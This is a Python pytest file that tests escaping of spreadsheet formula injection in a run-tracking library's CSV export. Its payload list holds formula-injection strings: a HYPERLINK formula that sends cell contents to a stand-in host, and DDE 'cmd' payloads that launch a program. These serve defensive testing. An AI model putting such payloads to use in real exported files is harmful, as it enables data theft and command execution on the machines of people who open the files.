"""The runs table as CSV: cells a spreadsheet would run as formulas are escaped."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from runwatch import Experiment
from runwatch.tracking._csv_export import csv_cell

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-1.5, -3, 2.5, "-1.5", "+2", "-1e-3", "text", "a=b", "", None, True]
)
def test_other_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


def test_export_runs_csv_escapes_formulas(exp: Experiment, tmp_path: Path) -> None:
    with exp.start_logging(display_name=FORMULAS[0]) as run:
        run.tag("note", FORMULAS[1])
        run.tag("=evil()", "x")  # a column name is a cell too
        run.log("delta", -1.5)
        run.tag("offset", "-2.5")
    path = exp.export_runs_csv(tmp_path / "runs.csv")
    with path.open(encoding="utf-8", newline="") as file:
        (row,) = list(csv.DictReader(file))
    assert row["display_name"] == "'" + FORMULAS[0]
    assert row["note"] == "'" + FORMULAS[1]
    assert row["'=evil()"] == "x"
    assert row["delta"] == "-1.5" and row["offset"] == "-2.5"  # numbers stay numbers
